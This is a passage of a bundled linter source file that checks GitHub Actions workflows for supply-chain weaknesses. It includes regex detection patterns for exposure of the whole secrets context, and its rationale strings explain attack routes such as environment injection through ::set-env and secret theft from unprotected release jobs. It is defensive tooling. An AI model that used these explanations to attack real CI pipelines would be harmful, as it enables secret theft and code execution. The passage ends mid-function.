      switch (resolution.reachable) {
        case "unreachable":
          results.push({
            status: "fail",
            message: `${site.value}: commit ${resolution.sha} is not in the history of ${slug}'s default branch (${resolution.defaultBranch}) and is not the commit of any of its 100 newest tags or its branch heads: it may come from a fork`,
            location
          });
          break;
        case "not-found":
          results.push(
            resolution.status === "repo-not-found" ? {
              status: "unknown",
              message: `${site.value}: repository ${slug} is not visible to the token (private, deleted or renamed): the pin cannot be checked`,
              location,
              permission: `Contents: read on ${slug}`
            } : { status: "fail", severity: "high", message: `${site.value}: commit ${site.ref} does not exist in ${slug}`, location }
          );
          break;
        case "unknown":
          results.push({
            status: "unknown",
            message: `${site.value}: could not check whether the commit belongs to ${slug}: ${resolution.error ?? "no answer"}`,
            location
          });
          break;
        default:
          break;
      }
    }
    return results;
  }
});

// src/rules/build/insecure-commands.ts
var insecureCommands = defineWorkflowRule({
  meta: {
    id: "insecure-commands",
    area: "build",
    severity: "high",
    title: "Insecure workflow commands enabled (ACTIONS_ALLOW_UNSECURE_COMMANDS)",
    rationale: "With `ACTIONS_ALLOW_UNSECURE_COMMANDS` the runner obeys `::set-env` and `::add-path` printed on standard output. Anything a step prints (a PR title, a file from the checkout, a tool's output) can then set `NODE_OPTIONS`, `LD_PRELOAD` or `PATH` for every later step: code execution (CVE-2020-15228).",
    remediation: "Remove the variable; write to `$GITHUB_ENV` and `$GITHUB_PATH` files instead, and update actions that still print the old commands.",
    references: ["SSC-50", "OSPS-BR-01.01", "zizmor: insecure-commands", "actionlint: deprecated-commands"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    return findEnvFlags(model, ["ACTIONS_ALLOW_UNSECURE_COMMANDS"], DOTNET_TRUE).map((flag) => ({
      status: "fail",
      ...flag.value === "expression" ? { severity: "medium" } : {},
      message: `${flag.where} sets ${flag.name}${flag.how === "github-env" ? " through $GITHUB_ENV" : ""}${flag.value === "expression" ? " from an expression (true when it evaluates to true)" : ""}: the runner obeys ::set-env and ::add-path from any output`,
      location: flag.location,
      fix: `remove ${flag.name}`
    }));
  }
});

// src/posture/action-advisories.ts
function inRange(version, range) {
  const parsed = parseVersion(version);
  if (!parsed || !range) return false;
  return range.split(",").every((clause) => {
    const match2 = /^\s*(<=|>=|<|>|=)?\s*v?([\d.]+)\s*$/.exec(clause);
    if (!match2) return false;
    const bound = parseVersion(match2[2]);
    if (!bound) return false;
    const diff = compareVersions(parsed, bound);
    switch (match2[1] ?? "=") {
      case "<":
        return diff < 0;
      case "<=":
        return diff <= 0;
      case ">":
        return diff > 0;
      case ">=":
        return diff >= 0;
      default:
        return diff === 0;
    }
  });
}
function affected(advisories, packages, version) {
  const names = new Set(packages.map((name) => name.toLowerCase()));
  const found = [];
  for (const advisory of advisories) {
    if (advisory.withdrawn) continue;
    const hit = advisory.vulnerabilities.find((vulnerability) => names.has(vulnerability.package.toLowerCase()) && inRange(version, vulnerability.range));
    if (hit) found.push({ advisory, firstPatched: hit.firstPatched });
  }
  return found;
}

// src/rules/build/known-vulnerable-actions.ts
var SEVERITY = { critical: "critical", high: "high", medium: "medium", low: "low", unknown: "medium" };
var knownVulnerableActions = defineWorkflowRule({
  meta: {
    id: "known-vulnerable-actions",
    area: "build",
    severity: "high",
    title: "Action version with a known vulnerability",
    rationale: "GitHub publishes advisories for actions (ecosystem `actions`): injection bugs in popular actions, and compromised releases such as tj-actions/changed-files (CVE-2025-30066). A workflow pinned to an affected version keeps running it.",
    remediation: "Update to the first patched version the advisory names (pinned by SHA), or replace the action; accept a reviewed advisory with the `ignore` option.",
    references: ["SSC-45", "OSPS-VM-05", "zizmor: known-vulnerable-actions", "poutine: known_vulnerability_in_build_component"],
    access: { token: "github-token", githubToken: [], note: "GET /advisories (public data) and GraphQL to resolve SHA pins to versions" }
  },
  needs: [actionRefsFact],
  // A reference that was not resolved is judged by its name when it is a version, and reported unknown
  // when an advisory exists for the action and its version could not be determined.
  gapsHandled: [actionRefsFact],
  defaultOptions: { ignore: [] },
  optionsSchema: {
    type: "object",
    properties: { ignore: { type: "array", items: { type: "string", pattern: "^GHSA(-[23456789cfghjmpqrvwx]{4}){3}$" }, description: "GHSA ids to accept" } }
  },
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const advisories = resolved.refs.advisories;
    if (!advisories.known) return [{ status: "unknown", message: advisories.reason, ...advisories.permission ? { permission: advisories.permission } : {} }];
    const ignored = new Set(ctx.options.ignore.map((id) => id.toUpperCase()));
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      const location = locate(site.file, site.node);
      const packages = [`${site.owner}/${site.repo}`, ...site.path ? [`${site.owner}/${site.repo}/${site.path}`] : []];
      const relevant = advisories.value.filter(
        (advisory) => advisory.vulnerabilities.some((v) => packages.some((name) => name.toLowerCase() === v.package.toLowerCase()))
      );
      if (relevant.length === 0) continue;
      const version = resolution?.version ?? (resolution?.isTag || !resolution ? site.ref : void 0);
      if (!version) {
        results.push({
          status: "unknown",
          message: `${site.value}: ${relevant.length} advisor${relevant.length === 1 ? "y exists" : "ies exist"} for ${packages[0]}, but the version of ${site.ref} could not be determined${resolution?.error ? ` (${resolution.error})` : ""}`,
          location
        });
        continue;
      }
      for (const { advisory, firstPatched } of affected(relevant, packages, version)) {
        if (ignored.has(advisory.ghsaId.toUpperCase())) continue;
        results.push({
          status: "fail",
          severity: SEVERITY[advisory.severity] ?? "high",
          message: `${site.value} is ${version === site.ref ? "version" : `${site.ref} = version`} ${version}, affected by ${advisory.ghsaId}${advisory.cveId ? ` (${advisory.cveId})` : ""}: ${advisory.summary}${firstPatched ? `; fixed in ${firstPatched}` : ""}`,
          location,
          ...firstPatched ? { fix: `uses: ${packages[packages.length - 1]}@<SHA of ${firstPatched} or later> # ${firstPatched}` } : {}
        });
      }
    }
    return results;
  }
});

// src/rules/build/overprovisioned-secrets.ts
var TO_JSON = /\btojson\s*\(\s*secrets\s*\)/i;
var DYNAMIC_INDEX = /\bsecrets\s*\[\s*(?!'[^']*'\s*\])/i;
var WHOLE = /(?:^|[^.\w-])secrets\s*(?:$|[),])/i;
function secretsExposure(body) {
  const ast = parseExpression(body);
  if (ast && !contextRefs(ast).some((ref) => ref.path === "secrets")) return void 0;
  if (TO_JSON.test(body)) return "toJSON(secrets) serialises every secret";
  if (DYNAMIC_INDEX.test(body)) return "secrets[...] with a computed index can read any secret";
  if (ast || WHOLE.test(body.trim())) return "the whole secrets context is passed";
  return void 0;
}
var overprovisionedSecrets = defineWorkflowRule({
  meta: {
    id: "overprovisioned-secrets",
    area: "build",
    severity: "medium",
    title: "Whole secrets context exposed",
    rationale: "The runner only receives the secrets a job references. `toJSON(secrets)` or a computed `secrets[...]` index makes it send all of them, so one leak (a log line, a compromised step) discloses every secret of the repository and organization.",
    remediation: "Reference each secret by name (`secrets.NPM_TOKEN`); for a lookup table, map the few names explicitly in `env:`.",
    references: ["SSC-25", "OSPS-BR-07.02", "zizmor: overprovisioned-secrets", "poutine: job_all_secrets"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const docs = [...model.workflows, ...model.actions];
    for (const doc of docs) {
      for (const str2 of allExpressionStrings(doc.file)) {
        if (!/secrets/i.test(str2.value)) continue;
        for (const expression of str2.expressions) {
          const why = secretsExposure(expression.body);
          if (why) results.push({ status: "fail", message: `${why}: ${expression.body.trim()}`, location: expressionLocation(doc, expression) });
        }
      }
    }
    return results;
  }
});

// src/rules/build/unredacted-secrets.ts
function secretsParsed(ast, body) {
  const out = [];
  walkExpression(ast, (node) => {
    if (node.kind !== "call" || node.name !== "fromjson") return;
    for (const ref of contextRefs(node.args[0] ?? null)) {
      if (!/^secrets\.[^.]+$/.test(ref.path) || ref.path === "secrets.github_token") continue;
      const name = body.slice(ref.start, ref.end).replace(/^secrets\s*/i, "").replace(/^\.\s*/, "").replace(/^\[\s*'(.*)'\s*\]$/, "$1");
      if (!out.includes(name)) out.push(name);
    }
  });
  return out;
}
var unredactedSecrets = defineWorkflowRule({
  meta: {
    id: "unredacted-secrets",
    area: "build",
    severity: "medium",
    title: "Secret expanded as structured data (parts the runner cannot redact)",
    rationale: "The runner redacts a secret from logs by matching its whole value. `fromJSON(secrets.X).field` takes a part out of the secret: that part is new text no mask matches, so it appears in clear in any log that prints it.",
    remediation: 'Store each value as its own secret (`secrets.DEPLOY_TOKEN`) instead of one JSON secret, or register the part as a mask (`echo "::add-mask::$VALUE"`) before anything can print it.',
    references: ["zizmor: unredacted-secrets", "https://docs.github.com/en/actions/how-tos/write-workflows/choose-what-workflows-do/use-secrets", "CWE-532"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const conditions = /* @__PURE__ */ new Set();
    for (const job of walkOf(model).jobs) if (job.if) conditions.add(job.if.node);
    for (const step of walkOf(model).steps) if (step.if) conditions.add(step.if.node);
    const docs = [...model.workflows, ...model.actions];
    for (const doc of docs) {
      for (const str2 of allExpressionStrings(doc.file)) {
        if (conditions.has(str2.node) || !/fromjson/i.test(str2.value) || !/secrets/i.test(str2.value)) continue;
        for (const expression of str2.expressions) {
          const names = secretsParsed(expression.ast, expression.body);
          if (names.length === 0) continue;
          results.push({
            status: "fail",
            message: `\`\${{ ${expression.body.trim()} }}\` parses secret${names.length > 1 ? "s" : ""} ${names.join(", ")} as JSON: the runner masks only the whole secret, so the part taken out of it is printed unredacted in logs`,
            location: expressionLocation(doc, expression),
            fix: `store the value as its own secret (e.g. secrets.${names[0]}_<FIELD>), or run \`echo "::add-mask::$VALUE"\` on the part first`
          });
        }
      }
    }
    return results;
  }
});

// src/rules/build/ref-confusion.ts
var refConfusion = defineWorkflowRule({
  meta: {
    id: "ref-confusion",
    area: "build",
    severity: "medium",
    title: "Action ref is both a branch and a tag",
    rationale: "When `@v1` names a tag and a branch, which one the runner checks out is up to GitHub's resolution order, and a contributor who can push a branch (but not tags) can create the ambiguity to get their code run in place of the release.",
    remediation: "Pin the action by commit SHA (with the version in a comment); ask the maintainers to delete the branch that shadows the tag.",
    references: ["SSC-45", "zizmor: ref-confusion"],
    access: { token: "github-token", githubToken: [], note: "GraphQL, one query per 20 action repositories" }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      if (resolution?.isSha) continue;
      const location = locate(site.file, site.node);
      if (!resolution || resolution.status === "error") {
        results.push({ status: "unknown", message: `${site.value}: could not resolve ${site.ref}: ${resolution?.error ?? "no answer"}`, location });
        continue;
      }
      if (resolution.isBranch && resolution.isTag) {
        results.push({
          status: "fail",
          message: `${site.value}: ${site.ref} is both a branch and a tag of ${site.owner}/${site.repo}`,
          location,
          ...resolution.sha ? { fix: `uses: ${site.owner}/${site.repo}${site.path ? `/${site.path}` : ""}@${resolution.sha} # ${resolution.version ?? site.ref}` } : {}
        });
      }
    }
    return results;
  }
});

// src/rules/build/ref-version-mismatch.ts
function versionComment(site) {
  const end = site.node.range?.[1];
  if (end === void 0) return void 0;
  const text = site.file.text;
  const lineEnd = text.indexOf("\n", end);
  const rest = text.slice(end, lineEnd === -1 ? void 0 : lineEnd);
  const match2 = /^\s*#\s*(?:(?:tag|version|ref)\s*[=:]\s*)?(\S+)/.exec(rest);
  if (!match2) return void 0;
  return { text: match2[1], start: end + rest.indexOf(match2[1]) };
}
function commentMatches(claimed2, actual) {
  if (!actual) return false;
  const a = parseVersion(actual);
  const c = parseVersion(claimed2);
  if (!a || !c) return claimed2 === actual;
  return c.every((part, i) => part === a[i]) && (c.length < a.length || compareVersions(a, c) === 0);
}
var refVersionMismatch = defineWorkflowRule({
  meta: {
    id: "ref-version-mismatch",
    area: "build",
    severity: "medium",
    title: "Version comment does not match the pinned commit",
    rationale: "SHA pins are reviewed through their version comment (`# v4.2.2`), and Dependabot and Renovate update the comment along with the SHA. A comment naming a tag that points to another commit makes the workflow look like it runs a release it does not run \u2014 an outdated or vulnerable commit, or one that is not a release at all.",
    remediation: "Set the SHA to the commit of the tag the comment names (or correct the comment); the finding's fix has both.",
    references: ["SSC-45", "zizmor: ref-version-mismatch"],
    access: { token: "github-token", githubToken: [], note: "no request of its own: the shared GraphQL resolution of action refs" }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      if (!FULL_SHA.test(site.ref)) continue;
      const comment = versionComment(site);
      const resolution = resolved.refs.refs[site.key];
      if (!comment) continue;
      if (!resolution || resolution.status === "error" || resolution.status === "repo-not-found") {
        const why = !resolution ? "it was not resolved" : resolution.status === "error" ? resolution.error ?? "it was not resolved" : `repository ${site.owner}/${site.repo} is not visible to the token (private, deleted or renamed)`;
        results.push({
          status: "unknown",
          message: `${site.value}: whether ${comment.text} is commit ${site.ref.slice(0, 12)} could not be checked: ${why}`,
          location: locate(site.file, [comment.start, comment.start + comment.text.length])
        });
        continue;
      }
      if (!resolution.tagCommits || resolution.status !== "resolved") continue;
      const claimedCommit = resolution.tagCommits[comment.text];
      if (!claimedCommit || claimedCommit === resolution.sha) continue;
      if (commentMatches(comment.text, resolution.version)) continue;
      const target2 = `${site.owner}/${site.repo}${site.path ? `/${site.path}` : ""}`;
      results.push({
        status: "fail",
        message: `${target2}: the comment says ${comment.text}, but ${comment.text} is commit ${claimedCommit.slice(0, 12)} and the pin is ${site.ref.slice(0, 12)}${resolution.version ? ` (${resolution.version})` : ", which no listed tag points to"}`,
        location: locate(site.file, [comment.start, comment.start + comment.text.length]),
        fix: `uses: ${target2}@${claimedCommit} # ${comment.text}   (or keep the SHA and write # ${resolution.version ?? "the right version"})`
      });
    }
    return results;
  }
});

// src/rules/build/release-environment-protection.ts
var PUBLISH_COMMAND2 = anyCommand(RELEASE_SECRET_COMMANDS);
var PUBLISH_ACTIONS2 = RELEASE_SECRET_ACTIONS.map((entry2) => entry2.action);
var SECRET = /\bsecrets\.([A-Za-z_]\w*)|\bsecrets\[\s*'([^']+)'\s*\]/g;
function jobSecrets(job) {
  const range = job.node?.range;
  if (!range) return [];
  const text = job.workflow.file.text.slice(range[0], range[1]);
  const names = /* @__PURE__ */ new Set();
  for (const match2 of text.matchAll(SECRET)) {
    const name = match2[1] ?? match2[2];
    if (name && name.toUpperCase() !== "GITHUB_TOKEN") names.add(name);
  }
  return [...names];
}
function publishes(job) {
  return job.steps.some((step) => {
    if (step.run && PUBLISH_COMMAND2.test(step.run.value)) return true;
    if (PUBLISH_ACTIONS2.some((name) => usesAction(step, name))) return true;
    return usesAction(step, "docker/build-push-action") && /^true$/i.test(input(step, "push")?.value.trim() ?? "");
  });
}
function isProtected(environment) {
  const rules = environment.protection_rules ?? [];
  const reviewers = rules.some((rule) => rule.type === "required_reviewers" && (rule.reviewers ?? []).length > 0);
  const timer = rules.some((rule) => rule.type === "wait_timer" && (rule.wait_timer ?? 0) > 0);
  const custom = rules.some((rule) => rule.type !== "required_reviewers" && rule.type !== "wait_timer" && rule.type !== "branch_policy");
  return reviewers || timer || custom || Boolean(environment.deployment_branch_policy);
}
var releaseEnvironmentProtection = defineWorkflowRule({
  meta: {
    id: "release-environment-protection",
    area: "build",
    severity: "medium",
    title: "Release job with secrets outside a protected environment",
    rationale: "Repository secrets are available to every workflow on every branch: anyone who can push a branch can write a workflow that prints the publishing token. Secrets kept in a deployment environment with required reviewers or a branch policy are only released to approved runs from the right branches.",
    remediation: "Create an environment (e.g. `release`) with required reviewers and/or a deployment branch/tag policy, move the publishing secrets into it, and add `environment: release` to the job.",
    references: ["SSC-27", "OSPS-BR-07.02", "zizmor: secrets-outside-env"],
    access: {
      token: "github-token",
      githubToken: ["actions: read"],
      fineGrained: ["Actions: read"],
      note: "GET /repos/{owner}/{repo}/environments for the protection rules; jobs without environment fail offline"
    }
  },
  uses: [environmentsFact],
  defaultOptions: {},
  job(job, ctx) {
    if (job.uses || !publishes(job)) return null;
    const secrets = jobSecrets(job);
    if (secrets.length === 0) return null;
    const environment = job.environment;
    const name = environment?.name?.value;
    const list = secrets.slice(0, 4).join(", ") + (secrets.length > 4 ? ", ..." : "");
    if (!environment || !name) {
      return {
        status: "fail",
        message: `job ${job.id} publishes with secrets (${list}) but runs in no deployment environment`,
        location: nodeLocation(job.workflow, job.keyNode),
        fix: "environment: release   # with required reviewers or a deployment branch policy; move the secrets into it"
      };
    }
    if (name.includes("${{")) return null;
    const location = nodeLocation(job.workflow, environment.node);
    const environments = ctx.fact(environmentsFact);
    if (!environments.known) {
      return {
        status: "unknown",
        message: `job ${job.id} uses environment ${name}; its protection rules could not be read: ${environments.reason}`,
        location,
        ...environments.permission ? { permission: environments.permission } : {}
      };
    }
    const found = environments.value.find((candidate) => candidate.name.toLowerCase() === name.toLowerCase());
    const results = [];
    if (!found) {
      results.push({
        status: "fail",
        message: `job ${job.id} uses environment ${name}, which does not exist yet (GitHub creates it unprotected on first use)`,
        location
      });
    } else if (!isProtected(found)) {
      results.push({
        status: "fail",
        message: `job ${job.id} publishes with secrets (${list}) in environment ${name}, which has no required reviewers, wait timer or deployment branch policy`,
        location
      });
    }
    return results;
  }
});

// src/rules/build/secrets-inherit.ts
var secretsInherit = defineWorkflowRule({
  meta: {
    id: "secrets-inherit",
    area: "build",
    severity: "medium",
    title: "Reusable workflow called with `secrets: inherit`",
    rationale: "`secrets: inherit` passes every secret the calling workflow can see to the called workflow, whatever it needs. A compromised or careless reusable workflow (or a later change to it) then reaches all of them.",
    remediation: "Pass only the secrets the called workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.",
    references: ["SSC-25", "OSPS-BR-07.02", "zizmor: secrets-inherit"],
    access: { token: "none" }
  },
  defaultOptions: {},
  job(job) {
    if (!job.secrets?.inherit) return null;
    return {
      status: "fail",
      message: `job ${job.id} passes every secret to ${job.uses?.raw ?? "a reusable workflow"} (secrets: inherit)`,
      location: nodeLocation(job.workflow, job.secrets.node),
      fix: "secrets:\n  NAME: ${{ secrets.NAME }}   # only the secrets the called workflow declares"
    };
  }
});

// src/rules/build/self-hosted-runner.ts
function selfHostedUses(workflow) {
  const file = workflow.file;
  const found = [];
  for (const job of workflow.jobs) {
    const runsOn = entry(file.doc, job.node, "runs-on");
    if (!runsOn?.value) continue;
    const value = deref(file.doc, runsOn.value);
    const labels = (node) => {
      const resolved = deref(file.doc, node);
      if (isScalar(resolved)) {
        const text = scalarText(file.doc, resolved);
        return text === void 0 ? [] : [{ text, node: resolved }];
      }
      if (isSeq(resolved)) return resolved.items.flatMap((item) => labels(item));
      return [];
    };
    if (isMap(value)) {
      const group = entry(file.doc, value, "group");
      if (group?.value) {
        found.push({ workflow, job: job.id, node: group.value, why: `runner group ${scalarText(file.doc, group.value) ?? ""}`.trim() });
        continue;
      }
      for (const label of labels(entry(file.doc, value, "labels")?.value)) {
        if (label.text === "self-hosted") found.push({ workflow, job: job.id, node: label.node, why: "label self-hosted" });
      }
      continue;
    }
    for (const label of labels(value)) {
      if (label.text === "self-hosted") {
        found.push({ workflow, job: job.id, node: label.node, why: "label self-hosted" });
        continue;
      }
      const matrixKey = /^\$\{\{\s*matrix\.([\w-]+)\s*\}\}$/.exec(label.text.trim())?.[1];
      if (!matrixKey) continue;
      const matrix = entry(file.doc, entry(file.doc, job.node, "strategy")?.value, "matrix")?.value;
      const candidates = [
        ...labels(entry(file.doc, matrix, matrixKey)?.value),
        ...(asSeq(file.doc, entry(file.doc, matrix, "include")?.value)?.items ?? []).flatMap((item) => labels(entry(file.doc, item, matrixKey)?.value))
      ];
      const hosted = candidates.find((candidate) => candidate.text === "self-hosted" || candidate.text.includes("self-hosted"));
      if (hosted) found.push({ workflow, job: job.id, node: hosted.node, why: `matrix.${matrixKey} = ${hosted.text}` });
    }
  }
  return found;
}
var selfHostedRunner = defineWorkflowRule({
  meta: {
    id: "self-hosted-runner",
    area: "build",
    severity: "high",
    title: "Self-hosted runner used by a public repository",
    rationale: `GitHub advises that self-hosted runners "should almost never be used for public repositories": a fork's pull request can run code on them, and unless the runner is ephemeral that code persists into later jobs (and may reach the network the runner sits in).`,
    remediation: "Use GitHub-hosted runners for public repositories, or ephemeral just-in-time runners in a runner group restricted to selected workflows; require approval for all outside contributors.",
    references: ["SSC-44", "SSC-43", "OSPS-BR-01.03", "zizmor: self-hosted-runner", "poutine: pr_runs_on_self_hosted"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read"],
      note: "visibility from GET /repos/{owner}/{repo}; unknown when it cannot be read"
    }
  },
  uses: [repositoryFact],
  defaultOptions: { "allowed-runners": [] },
  optionsSchema: {
    type: "object",
    properties: {
      "allowed-runners": { type: "array", items: { type: "string" }, description: "labels or group:NAME of ephemeral runners allowed on public repositories" }
    }
  },
  model(model, ctx) {
    const allowed = new Set(ctx.options["allowed-runners"]);
    const uses = model.workflows.flatMap((workflow) => selfHostedUses(workflow)).filter((use) => {
      const label = use.why.startsWith("runner group ") ? `group:${use.why.slice("runner group ".length)}` : scalarText(use.workflow.file.doc, use.node) ?? "";
      return !allowed.has(label);
    });
    if (uses.length === 0) return [];
    const repository = ctx.fact(repositoryFact);
    const results = [];
    for (const use of uses) {
      const location = nodeLocation(use.workflow, use.node);
      if (!repository.known) {
        results.push({
          status: "unknown",
          message: `job ${use.job} runs on a self-hosted runner (${use.why}); whether the repository is public is unknown: ${repository.reason}`,
          location,
          ...repository.permission ? { permission: repository.permission } : {}
        });
        continue;
      }
      if (repository.value.private || repository.value.visibility === "internal") continue;
      const outsiders = forkReachable(use.workflow);
      results.push({
        status: "fail",
        ...outsiders ? {} : { severity: "medium" },
        message: `job ${use.job} of public repository ${repository.value.full_name} runs on a self-hosted runner (${use.why})${outsiders ? ", and the workflow runs on events outsiders can trigger" : ""}`,
        location
      });
    }
    return results;
  }
});

// src/workflow/rule-helpers.ts
var RANK2 = { critical: 5, high: 4, medium: 3, low: 2, info: 1 };
function key(location) {
  return location ? `${location.path}:${location.startLine}:${location.startColumn}:${location.endLine}:${location.endColumn}` : "";
}
function dedupeResults(results) {
  const byKey = /* @__PURE__ */ new Map();
  const out = [];
  for (const result of results) {
    if (!result.location) {
      out.push(result);
      continue;
    }
    const k = key(result.location);
    const existing = byKey.get(k);
    if (!existing) {
      byKey.set(k, result);
      out.push(result);
    } else if (RANK2[result.severity ?? "info"] > RANK2[existing.severity ?? "info"]) {
      out[out.indexOf(existing)] = result;
      byKey.set(k, result);
    }
  }
  return out;
}
function envVarName(path14) {
  const segments = path14.replace(/^github\.event\./, "").replace(/^github\./, "").split(".").filter((segment) => segment !== "*" && segment !== "outputs");
  const tail = segments.slice(-2).join("_");
  return (tail || "VALUE").replace(/pull_request/g, "PR").replace(/[^A-Za-z0-9]+/g, "_").replace(/^_+|_+$/g, "").toUpperCase();
}
function envReference(name, shell, language = "shell") {
  if (language === "javascript") return `process.env.${name}`;
  if (/^(pwsh|powershell)/.test(shell)) return `$env:${name}`;
  if (/^cmd/.test(shell)) return `%${name}%`;
  if (/^python/.test(shell)) return `os.environ["${name}"]`;
  return `"$${name}"`;
}
function reachOf(job) {
  const grant = tokenGrant(job);
  const secrets = secretsUsed(job);
  const parts = [];
  let level = "none";
  if (grant.writeAll) parts.push("a write-all token");
  else if (grant.writeScopes.length > 0) parts.push(`a token with ${grant.writeScopes.map((s) => `${s}: write`).join(", ")}`);
  else if (grant.source === "default") parts.push("a token with the repository default permissions (read/write on older repositories)");
  if (secrets.length > 0) parts.push(secrets.includes("*") ? "all the repository secrets" : `secrets ${secrets.join(", ")}`);
  if (grant.writeAll || grant.writeScopes.length > 0 || secrets.length > 0) level = "write";
  else if (grant.source === "default") level = "default";
  else if (grant.permissions && grant.permissions.form !== "empty" && grant.permissions.scopes.size > 0) level = "read";
  else if (grant.permissions?.form === "read-all") level = "read";
  return { text: parts.join(" and ") || (level === "read" ? "a read-only token" : "no token scopes and no secrets"), level, secrets };
}
function stepLabel(step) {
  const name = step.name?.value ?? step.id?.value ?? step.uses?.raw.trim();
  const where = step.job ? `job ${step.job.id}, ` : "";
  return `${where}step ${step.index + 1}${name ? ` (${name.length > 60 ? `${name.slice(0, 57)}...` : name})` : ""}`;
}
function eachStep(model, visit) {
  for (const workflow of model.workflows) for (const job of workflow.jobs) for (const step of job.steps) visit(workflow, job, step);
  for (const action of model.actions) for (const step of action.runs?.steps ?? []) visit(action, null, step);
}

// src/rules/build/unpinned-images.ts
var DIGEST2 = /@sha256:[0-9a-f]{64}$/i;
function imageTag(image) {
  const withoutDigest = image.split("@")[0];
  const lastSlash = withoutDigest.lastIndexOf("/");
  const colon = withoutDigest.indexOf(":", lastSlash + 1);
  return colon === -1 ? "" : withoutDigest.slice(colon + 1);
}
function gradeImage(image) {
  if (DIGEST2.test(image)) return null;
  const tag = imageTag(image);
  if (tag === "") return { severity: "high", why: "has no tag (it means :latest) and no digest" };
  if (tag === "latest") return { severity: "high", why: "uses the :latest tag and no digest" };
  return { severity: "medium", why: `is pinned to the tag :${tag}, which its publisher can move, not to a digest` };
}
var unpinnedImages = defineWorkflowRule({
  meta: {
    id: "unpinned-images",
    area: "build",
    severity: "high",
    title: "Container image not pinned by digest",
    rationale: "Job containers, service containers and `docker://` steps run whatever the registry serves for the name at that moment. A tag (or no tag, which is `latest`) can be re-pointed by whoever controls the image, or by an attacker who took it over; a `@sha256:` digest cannot.",
    remediation: "Reference the image by digest, keeping the tag for readers: `image: node:22.11-bookworm@sha256:<digest>`, and let Dependabot (docker ecosystem) or Renovate update it.",
    references: ["SSC-45", "OSPS-BR-05.01", "zizmor: unpinned-images", "Scorecard: Pinned-Dependencies (containerImage)"],
    access: { token: "none" }
  },
  defaultOptions: { "tag-allowed": [] },
  strictOptions: { "tag-allowed": [] },
  optionsSchema: {
    type: "object",
    properties: { "tag-allowed": { type: "array", items: { type: "string" }, description: "image name prefixes that may use a tag instead of a digest" } }
  },
  model(model, ctx) {
    const allowed = ctx.options["tag-allowed"];
    const results = [];
    const check3 = (doc, node, image, where, job) => {
      if (image.includes("${{")) {
        const refs = [...image.matchAll(/\$\{\{\s*matrix\.([\w-]+)\s*\}\}/g)];
        if (!job || refs.length !== 1 || image.replace(refs[0][0], "").includes("${{")) return;
        const ref = refs[0];
        for (const item of matrixValues(job, ref[1]) ?? []) {
          const resolved = image.replace(ref[0], item.value);
          if (!resolved.includes("${{")) check3(doc, item.node, resolved, `${where} (matrix.${ref[1]})`);
        }
        return;
      }
      if (image.trim() === "") return;
      const grade2 = gradeImage(image.trim());
      if (!grade2) return;
      if (grade2.severity === "medium" && allowed.some((prefix) => image.startsWith(prefix))) return;
      results.push({
        status: "fail",
        severity: grade2.severity,
        message: `${where} image ${image.trim()} ${grade2.why}`,
        location: nodeLocation(doc, node),
        fix: `${image.trim().split("@")[0]}@sha256:<digest>`
      });
    };
    const walk = walkOf(model);
    for (const action of walk.actions) {
      const image = action.runs?.image;
      if (image?.value.startsWith("docker://")) check3(action, image.node, image.value.slice("docker://".length), "the Docker action");
    }
    for (const job of walk.jobs) {
      if (job.container?.image) check3(job.workflow, job.container.image.node, job.container.image.value, `job ${job.id}: container`, job);
      for (const service of job.services)
        if (service.image) check3(job.workflow, service.image.node, service.image.value, `job ${job.id}: service ${service.name}`, job);
    }
    for (const step of walk.steps) {
      if (step.uses?.kind === "docker") check3(stepDoc(step), step.uses.node, step.uses.image ?? "", `${stepOwner(step)}: step ${step.index + 1} (docker://)`);
    }
    return dedupeResults(results);
  }
});

// src/rules/build/use-trusted-publishing.ts
var SECRET_REF = /\$\{\{\s*secrets\.([A-Za-z_][\w]*)\s*\}\}/;
var SECRET_REF_ALL = /\$\{\{\s*secrets\.([A-Za-z_][\w]*)\s*\}\}/g;
function secretName(item) {
  const name = SECRET_REF.exec(item.value?.value ?? "")?.[1];
  return name && name.toUpperCase() !== "GITHUB_TOKEN" ? name : void 0;
}
function effectiveEnv(step) {
  const env = /* @__PURE__ */ new Map();
  for (const scope of [step.job?.workflow.env, step.job?.env, step.env]) for (const [name, entry2] of scope ?? []) env.set(name.toUpperCase(), entry2);
  return env;
}
function registryRedirected(step, registry) {
  const setup = registry === "npm" ? { action: "actions/setup-node", input: "registry-url" } : registry === "NuGet" ? { action: "actions/setup-dotnet", input: "source-url" } : null;
  if (!setup) return false;
  for (const earlier of siblingSteps(step)) {
    if (earlier === step) break;
    const url = usesAction(earlier, setup.action) ? input(earlier, setup.input)?.value : void 0;
    if (url && !REGISTRIES[registry].hosts.test(url)) return true;
  }
  return false;
}
function actionInputs(step) {
  const doc = stepDoc(step);
  const hits = [];
  for (const known2 of LONG_LIVED_CREDENTIAL_INPUTS) {
    const entry2 = usesAction(step, known2.action) ? step.with.get(known2.input) : void 0;
    if (entry2?.value && SECRET_REF.test(entry2.value.value)) hits.push({ location: nodeLocation(doc, entry2.keyNode), message: known2.note });
  }
  const publisher = publishingAction(step);
  if (!publisher) return hits;
  const registry = REGISTRIES[publisher.registry];
  const target2 = publisher.registryInput ? input(step, publisher.registryInput)?.value.trim() : void 0;
  if (target2 && (target2.includes("${{") || !registry.hosts.test(target2))) return hits;
  for (const name of publisher.credentials) {
    const entry2 = step.with.get(name);
    if (entry2?.value && SECRET_REF.test(entry2.value.value) && !/GITHUB_TOKEN/i.test(entry2.value.value)) {
      hits.push({
        location: nodeLocation(doc, entry2.keyNode),
        message: `${publisher.action} is given a long-lived ${publisher.registry} token (\`${name}:\`); use ${registry.instead}`
      });
    }
  }
  const off = publisher.disablesOidc ? step.with.get(publisher.disablesOidc) : void 0;
  if (off?.value?.value === "false")
    hits.push({
